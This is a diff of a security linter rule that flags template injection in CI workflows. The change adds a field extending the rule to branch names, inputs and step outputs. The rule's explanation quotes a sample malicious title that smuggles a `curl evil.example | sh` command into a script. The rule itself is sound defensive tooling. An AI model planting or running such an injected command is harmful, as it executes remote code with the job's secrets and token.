@@ -13,6 +13,7 @@ export default defineRule({
   id: 'workflow/template-injection',
   severity: 'critical',
   threat: 'access',
+  strictly: 'every text in a script that neither the workflow nor its form fixes (names of branches, inputs, outputs of steps), as low.',
   summary: 'Text that a stranger writes becomes part of a script',
   why: 'The runner puts the text into the script before any shell reads it: a title such as `"; curl evil.example | sh; "` is then a command, with the secrets and the token of the job.',
   instead: 'Give the value to the step in `env`, and read that variable in the script, in double quotes.',
